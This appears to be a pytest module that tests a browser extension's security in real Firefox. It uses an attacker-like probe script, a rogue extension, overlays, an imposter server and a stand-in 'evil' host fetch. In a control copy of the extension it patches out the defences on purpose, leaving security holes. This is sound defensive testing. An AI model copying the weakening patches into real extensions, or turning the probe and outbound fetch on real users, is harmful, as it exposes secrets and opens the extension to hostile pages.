"""The threats of the other files in real Firefox, wherever a browser's own ways matter: each with its control."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.extension.chromium import HOST, PAIR_PAGE
from tests.extension.firefox import ADDON, Firefox, firefox, wait_for
from tests.extension.imposter import Imposter
from tests.extension.office import office
from tests.extension.packages import change, change_manifest, copied
from tests.extension.paired_firefox import PairedFirefox
from tests.extension.stand_in import EVIL, OTHER_REGION, WATCHING, StandIn
from tests.extension.test_hostile_pages import Trusting, weaken
from tests.extension.test_imposters import LURE, PORT, asks_ours, questions, says_anything
from tests.extension.test_other_extensions import ROGUE
from tests.extension.test_overlays import LAY_OVER, TAKE_AWAY
from tests.extension.test_rights import READS_KEY

pytestmark = [pytest.mark.slow, pytest.mark.browser]

WEATHER = "weather@evil.example"
WEATHER_UUID = "1b2c3d4e-5f6a-4b7c-8d9e-0f1a2b3c4d5e"
PROBE = """
// Speaks with the rights of the script on Clio's page, on behalf of a test.
window.addEventListener("probe", (event) => {
  const asked = { to: "agent", path: "/v1/state", body: { since: null } };
  Promise.all([
    chrome.runtime.sendMessage(asked).then(JSON.stringify, String),
    chrome.storage.local.get().then((kept) => JSON.stringify(kept), String),
    fetch("http://127.0.0.1:47821/v1/state", { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" })
      .then((answer) => answer.text(), () => "refused"),
  ]).then((said) => window.postMessage(["probed", ...said], "*"));
});
"""
ASKS_PROBE = """new Promise((done) => {
  addEventListener("message", ({ data }) => data[0] === "probed" && done(data.slice(1)));
  dispatchEvent(new Event("probe"));
})"""
TELLS = f"fetch('https://{EVIL}/open?told').then((answer) => answer.text(), () => 'refused')"
TELLS_OURS = f"tell('{ADDON}', {{to: 'agent', path: '/v1/state', body: {{since: null}}}})"
ASKS_NOBODY = {"extensions.webextOptionalPermissionPrompts": False}
"""Firefox gives an extension the rights that it asks for in a click, as if a person had agreed."""
FRAMES = """(async (address) => {
  const frame = document.createElement("iframe");
  frame.src = address;
  document.body.append(frame);
  await new Promise((done) => setTimeout(done, 700));
})"""


@pytest.fixture(scope="module")
def package(firefox_package: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The extension with one more script on Clio's page, which does for the tests what an attacker in its place would."""
    probed = copied(firefox_package, tmp_path_factory.mktemp("probed") / "package")
    (probed / "content" / "probe.js").write_text(PROBE)
    change_manifest(probed, lambda manifest: manifest["content_scripts"][0]["js"].append("content/probe.js"))
    return probed


@pytest.fixture(scope="module")
def paired(
    site_443: StandIn, tmp_path_factory: pytest.TempPathFactory, package: Path, furnished: Path, clio: object
) -> Iterator[PairedFirefox]:
    folder = tmp_path_factory.mktemp("fox")
    ids = json.dumps({ADDON: Firefox.origin.partition("://")[2], WEATHER: WEATHER_UUID})
    with (
        office(furnished, folder / "home", clio) as desk,
        firefox(
            folder / "profile", site_443, **ASKS_NOBODY, **{"extensions.webextensions.uuids": ids}
        ) as browser,
    ):
        browser.install(package)
        inside = PairedFirefox(browser, desk)
        inside.pair()
        yield inside


def test_clios_page_sees_nothing_hears_nothing_and_is_not_changed(paired: PairedFirefox) -> None:
    tab = paired.clio()
    panel = paired.panel(tab)
    paired.fox.until_text(panel, "[data-entry].is-focus", "20417-Copper Kettle")
    paired.fox.run(tab, "void (heard.keys.length = heard.changes.length = 0)")
    paired.fox.press(tab, "j", "k", "?", "Escape")
    assert paired.fox.run(tab, f"String(document.querySelector('{HOST}').shadowRoot)") == "null"
    assert paired.fox.run(
        tab, "[heard.keys.length, heard.messages.length, heard.changes.length, window.length]"
    ) == [0, 0, 0, 0]


def test_the_script_on_clios_page_gets_no_answer_no_secret_and_no_agent(paired: PairedFirefox) -> None:
    said = paired.fox.run(paired.clio(), ASKS_PROBE)
    assert said == ['{"state":"forbidden"}', "{}", "refused"]


def test_the_key_cannot_be_read(paired: PairedFirefox) -> None:
    page = paired.fox.open(PAIR_PAGE)
    assert paired.fox.run(page, f"({READS_KEY})()") == [False, "InvalidAccessError"]


def test_its_pages_speak_to_no_other_computer(paired: PairedFirefox) -> None:
    assert paired.fox.run(paired.fox.open(PAIR_PAGE), TELLS) == "refused"


def shown_in(paired: PairedFirefox, site: str, path: str) -> bool:
    """Whether a page of a site shows a page of the extension in a frame."""
    tab = paired.fox.open(site)
    paired.fox.run(tab, f"{FRAMES}('{paired.fox.origin}/{path}')")
    frames = [f["context"] for f in paired.fox.frames(tab) if path in f["url"]]
    return any(paired.fox.text(frame) for frame in frames)


def test_no_other_site_can_frame_it_and_nobody_the_pairing_page(paired: PairedFirefox) -> None:
    assert not shown_in(paired, f"https://{EVIL}/", "panel/index.html")
    assert not shown_in(paired, WATCHING, PAIR_PAGE)


def test_another_extension_cannot_wear_our_name_and_gets_nothing(paired: PairedFirefox) -> None:
    paired.fox.install(ROGUE)
    page = paired.fox.open(f"moz-extension://{WEATHER_UUID}/page.html")
    paired.desk.asked.clear()
    paired.fox.run(page, f"forge('{paired.fox.origin}').then(() => null, () => null)")
    said = paired.fox.run(page, f"ask('{paired.desk.page.origin}/v1/state', {{since: null}})")
    assert "timekeeper" not in said["text"]
    assert [a.status for a in paired.desk.asked if a.status < 400] == []
    told = paired.fox.run(page, TELLS_OURS)
    assert re.search("no answer|null|Error", told)
    assert "timekeeper" not in told


def presses_through(inside: PairedFirefox) -> tuple[str, str]:
    """Confirm and push by key, through something that lies over the whole page; return tab and panel."""
    tab = inside.clio()
    panel = inside.review(tab)
    inside.fox.run(tab, f"({LAY_OVER})()")
    inside.fox.press(tab, "Enter")
    inside.fox.until_text(panel, "[data-foot]", "1 confirmed")
    inside.fox.press(tab, "Shift+Enter")
    return tab, panel


def test_what_is_pressed_through_an_overlay_waits_five_seconds_in_which_it_can_be_stopped(
    paired: PairedFirefox,
) -> None:
    """Firefox cannot say what lies over a frame, so the presses are taken: nothing leaves by them alone."""
    tab, panel = presses_through(paired)
    paired.fox.until_text(panel, "[data-foot]", "Sending 1")
    paired.fox.run(tab, TAKE_AWAY)
    paired.fox.press(tab, "z")
    paired.fox.until_text(panel, "[data-foot]", "1 confirmed")
    paired.fox.press(tab, "z")  # and the confirmation is taken back as well
    wait_for(lambda: "1 confirmed" not in paired.fox.text(panel, "[data-foot]"))
    assert paired.desk.pushed() == []
    assert "/v1/push" not in {asked.path for asked in paired.desk.asked}


def test_it_stands_on_another_region_of_clio_once_that_was_added_and_no_longer_than_that(
    paired: PairedFirefox, package: Path
) -> None:
    fox, there = paired.fox, f"https://{OTHER_REGION}/watching"
    stands = f"Boolean(document.querySelector('{HOST}'))"
    button = "document.querySelector('#regions button')"  # the first: United States

    def press(shows: str, then: str) -> None:
        page = fox.open(PAIR_PAGE)
        wait_for(lambda: fox.run(page, f"{button}?.textContent") == shows)
        fox.run(page, f"{button}.focus()")
        fox.press(page, "Enter")
        wait_for(lambda: fox.run(page, f"{button}?.textContent") == then)
        registered = "chrome.scripting?.getRegisteredContentScripts().then((all) => all.length) ?? 0"
        wait_for(lambda: fox.run(page, registered) == (then == "Remove"))

    assert not fox.run(fox.open(there), stands)
    press("Add", "Remove")
    fox.until_text(paired.panel(paired.clio(there)), "[data-entry]", "20417-Copper Kettle")
    fox.update(package)
    wait_for(lambda: fox.run(paired.fox.open(there), stands))
    press("Remove", "Add")
    assert not fox.run(fox.open(there), stands)


def test_an_imposter_is_told_nothing_and_its_words_are_not_shown(paired: PairedFirefox) -> None:
    paired.desk.stop()
    try:
        with Imposter(PORT, says_anything) as received:
            panel = paired.panel(paired.clio())
            paired.fox.until_text(panel, "body", "Another program answers")
            assert LURE not in paired.fox.text(panel)
        assert len(questions(received)) <= 1
        with Imposter(PORT, asks_ours(PORT + 1)) as received:
            paired.desk.start()
            panel = paired.panel(paired.clio())
            paired.fox.until_text(panel, "[data-entry]", "20417-Copper Kettle")
            assert received
            assert len(questions(received)) <= 1, "its port is not in the proof"
    finally:
        paired.desk.stop()
        paired.desk.start()


def test_with_the_defences_taken_away_all_of_it_would_work(
    paired: PairedFirefox, package: Path, tmp_path: Path, site_443: StandIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    careless = copied(package, tmp_path / "careless")
    change(careless, "background/sw.js", "if (!mayAsk(", "if (!message && !mayAsk(")
    change(careless, "content/edge.js", 'mode: "closed"', 'mode: "open"')
    change(
        careless,
        "panel/signing.js",
        'importKey("raw", bytes, HMAC, false,',
        'importKey("raw", bytes, HMAC, true,',
    )

    change(
        careless,
        "background/door.js",
        "if (await fits(key, String(said?.proof),",
        "if (said || await fits(key, String(said?.proof),",
    )

    change(careless, "panel/state/sending.js", "export const SECONDS = 5;", "export const SECONDS = 0;")
    before = "chrome.runtime.onMessage.addListener("
    change(
        careless, "background/sw.js", before,
        "chrome.runtime.onMessageExternal.addListener((message, sender, reply) => "
        "{ void does(message, sender).then(reply); return true; });\n" + before,
    )  # fmt: skip

    def open_up(manifest: dict[str, object]) -> None:
        manifest["web_accessible_resources"] = [{"resources": ["panel/*"], "matches": ["<all_urls>"]}]
        manifest["content_security_policy"] = {"extension_pages": "script-src 'self'; frame-ancestors *"}

    change_manifest(careless, open_up)
    ids = json.dumps({ADDON: Firefox.origin.partition("://")[2], WEATHER: WEATHER_UUID})
    with firefox(tmp_path / "profile", site_443, **{"extensions.webextensions.uuids": ids}) as browser:
        browser.install(careless)
        loose = PairedFirefox(browser, paired.desk)
        loose.pair()
        tab = loose.clio()
        assert "ShadowRoot" in str(loose.fox.run(tab, f"String(document.querySelector('{HOST}').shadowRoot)"))
        assert "timekeeper" in loose.fox.run(tab, ASKS_PROBE)[0]
        page = loose.fox.open(PAIR_PAGE)
        assert loose.fox.run(page, f"({READS_KEY})()") == [True, "read"]
        assert loose.fox.run(page, TELLS) == "open to all"
        assert shown_in(loose, f"https://{EVIL}/", "panel/index.html")
        browser.install(ROGUE)
        rogue = browser.open(f"moz-extension://{WEATHER_UUID}/page.html")
        assert "timekeeper" in browser.run(rogue, TELLS_OURS)
        presses_through(loose)
        wait_for(lambda: len(paired.desk.pushed()) == 1)
        weaken(monkeypatch, paired.desk, Trusting)
        said = browser.run(rogue, f"ask('{paired.desk.page.origin}/v1/state', {{since: null}})")
        assert "timekeeper" in said["text"], said
        paired.desk.stop()
        try:
            with Imposter(PORT, says_anything) as received:
                loose.panel(loose.clio())
                wait_for(lambda: "/v1/state" in {r.path for r in received})
        finally:
            paired.desk.start()
